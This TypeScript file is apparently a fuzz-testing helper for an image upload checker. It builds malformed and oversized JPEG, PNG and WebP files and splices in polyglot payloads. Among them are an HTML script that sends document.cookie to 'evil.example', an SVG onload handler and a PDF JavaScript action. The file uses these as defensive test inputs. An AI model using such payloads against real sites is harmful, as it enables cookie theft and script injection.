import {
  ascii,
  be32,
  join,
  le32,
  PNG_START,
  pngChunk,
  pngHeader,
  segment,
  talkativePng,
  talkativeWebp,
  telephoneJpeg,
  webpChunk,
  webpExtended,
  webpFile,
  webpPicture,
} from './image-files.ts'
import { smallJpeg } from './small-jpeg.ts'

/** Random numbers that come again with the same seed. */
export interface Dice {
  /** A whole number from 0 to less than `n`. */
  below(n: number): number
  pick<T>(list: readonly T[]): T
}

/** Mulberry32. */
export function diceOf(seed: number): Dice {
  let state = seed >>> 0
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
  const below = (n: number) => Math.floor(next() * n)
  return { below, pick: <T>(list: readonly T[]) => list[below(list.length)] as T }
}

type Bytes = Uint8Array<ArrayBuffer>
type Mutation = (file: Bytes, dice: Dice) => Uint8Array

/** Pictures of every kind that is taken, with all that cameras and programs put beside them. */
export const SAMPLES = [smallJpeg(), telephoneJpeg(), talkativePng(), talkativeWebp()]

const HTML = ascii('<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>')
const SVG = ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const ZIP = join(
  ascii('PK\u0003\u0004'),
  new Uint8Array(26),
  ascii('a.exeMZ'),
  ascii('PK\u0005\u0006'),
  new Uint8Array(18),
)
const GIF = ascii('GIF89a\u0001\0\u0001\0\0\0\0;')
const PDF = ascii('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript>>>>endobj')
/** What must never come back to anybody. */
export const STRANGERS = [HTML, SVG, ZIP, GIF, PDF]
/** The marks of UTF-8, UTF-16 in both orders, and none. */
const MARKS = [[0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], []]

function range({ length }: Uint8Array, dice: Dice): [number, number] {
  const from = dice.below(length)
  return [from, from + dice.below(Math.min(200, length - from) + 1)]
}

function noise(length: number, dice: Dice): Uint8Array {
  return Uint8Array.from({ length }, () => dice.below(256))
}

/** A picture that declares `side` × `side` pixels. */
function huge(side: number, dice: Dice): Uint8Array {
  const frame = segment(0xc0, Uint8Array.of(8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 17, 0))
  const bits = Math.min(side, 16_384) - 1
  const lossless = bits | (bits << 14)
  const picture = pngChunk('IDAT', noise(20, dice))
  return dice.pick([
    join([0xff, 0xd8], frame, smallJpeg().subarray(2)),
    join(PNG_START, pngHeader(side, side), picture, pngChunk('IEND', [])),
    webpFile(webpExtended(0, side, side), webpPicture(16_383, 16_383)),
    webpFile(webpChunk('VP8L', join([0x2f], le32(lossless >>> 0), [0]))),
  ])
}

function moving(dice: Dice): Uint8Array {
  const control = join(be32(1), be32(0))
  const frame = join(be32(0), ascii('frame'), noise(40, dice))
  return dice.pick([
    join(
      PNG_START,
      pngHeader(2, 2),
      pngChunk('acTL', control),
      pngChunk('IDAT', [1, 2]),
      pngChunk('fdAT', frame),
      pngChunk('IEND', []),
    ),
    webpFile(webpExtended(0x02, 4, 4), webpChunk('ANIM', new Uint8Array(6)), webpChunk('ANMF', frame)),
    webpFile(webpExtended(0, 4, 4), webpChunk('ANMF', frame), webpPicture(4, 4)),
  ])
}

/** Very many parts, each of them allowed. */
function crowded(dice: Dice): Uint8Array {
  const times = 10 + dice.below(400)
  const again = (part: Uint8Array) => join(...Array.from({ length: times }, () => part))
  const jpeg = smallJpeg()
  const scan = jpeg.indexOf(0xda) - 1
  return dice.pick([
    join(jpeg.subarray(0, scan), again(jpeg.subarray(scan, jpeg.length - 2)), [0xff, 0xd9]),
    join(jpeg.subarray(0, 2), again(segment(0xfe, ascii('c'))), jpeg.subarray(2)),
    join(jpeg.subarray(0, 2), new Uint8Array(times * 20).fill(0xff), jpeg.subarray(2)),
    join(PNG_START, pngHeader(1, 1), again(pngChunk('IDAT', [])), pngChunk('IEND', [])),
    webpFile(again(webpChunk('note', [])), webpPicture(1, 1)),
  ])
}

const MUTATIONS: Record<string, Mutation> = {
  'bytes changed': (file, dice) => {
    for (let times = 1 + dice.below(8); times > 0; times -= 1) file[dice.below(file.length)] = dice.below(256)
    return file
  },
  'a bit flipped': (file, dice) => {
    const at = dice.below(file.length)
    file[at] = (file[at] as number) ^ (1 << dice.below(8))
    return file
  },
  'cut off': (file, dice) => file.subarray(0, dice.below(file.length)),
  'a length changed': (file, dice) => {
    const at = dice.below(Math.max(1, Math.min(200, file.length - 4)))
    const lengths = [
      [0],
      [255],
      [0, 0],
      [255, 255],
      be32(0),
      be32(0xffffffff),
      be32(0x7fffffff),
      [...noise(2, dice)],
    ]
    file.set(dice.pick(lengths), at)
    return file
  },
  'a part repeated': (file, dice) => {
    const [from, to] = range(file, dice)
    const parts = Array.from({ length: 1 + dice.below(20) }, () => file.subarray(from, to))
    return join(file.subarray(0, to), ...parts, file.subarray(to))
  },
  'a part left out': (file, dice) => {
    const [from, to] = range(file, dice)
    return join(file.subarray(0, from), file.subarray(to))
  },
  'something put in': (file, dice) => {
    const at = dice.below(file.length)
    const put = dice.pick([...STRANGERS, noise(1 + dice.below(60), dice)])
    return join(file.subarray(0, at), put, file.subarray(at))
  },
  'one file’s head on another’s body': (file, dice) => {
    const other = dice.pick(SAMPLES)
    return join(file.subarray(0, dice.below(file.length)), other.subarray(dice.below(other.length)))
  },
  'something hung on': (file, dice) =>
    join(file, dice.pick([...STRANGERS, ...SAMPLES]), noise(dice.below(2000), dice)),
  'something before it': (file, dice) => join(dice.pick(MARKS), dice.pick(STRANGERS), file),
  'no picture': (_, dice) =>
    join(
      dice.pick(MARKS),
      dice.pick([[], ascii('<?xml version="1.0"?>')]),
      dice.pick(STRANGERS),
      noise(dice.below(9), dice),
    ),
  'more pixels than there are': (_, dice) => huge(dice.pick([12_001, 16_384, 50_000, 65_535]), dice),
  'a moving picture': (_, dice) => moving(dice),
  'very many parts': (_, dice) => crowded(dice),
  'megabytes of nothing': (file, dice) => {
    // Rarely as large as it is meant: most of the time a smaller one shows the same.
    const size = dice.pick([100, 1000, 20_000, 20_000, 20_000, dice.below(6) === 0 ? 10_000_000 : 8_000])
    const begun = file.subarray(0, dice.pick([file.length, dice.below(file.length)]))
    const padded = new Uint8Array(begun.length + size)
    padded.set(begun)
    return padded
  },
}

/** What is done to the files. */
export const MUTATION_NAMES = Object.keys(MUTATIONS)

/** What can never be a picture we take. */
export const HOPELESS: readonly string[] = ['more pixels than there are', 'no picture', 'something before it']

/** A sample after the named mutation, and one time in four a little damage on top. */
export function mutated(name: string, dice: Dice): Bytes {
  const once = MUTATIONS[name]?.(dice.pick(SAMPLES).slice(), dice) ?? new Uint8Array()
  const isDone = HOPELESS.includes(name) || once.length === 0 || once.length > 100_000
  const another = dice.pick(['bytes changed', 'a bit flipped', 'something hung on'])
  const twice = isDone || dice.below(4) > 0 ? once : MUTATIONS[another]?.(once.slice(), dice)
  return new Uint8Array(twice ?? once)
}
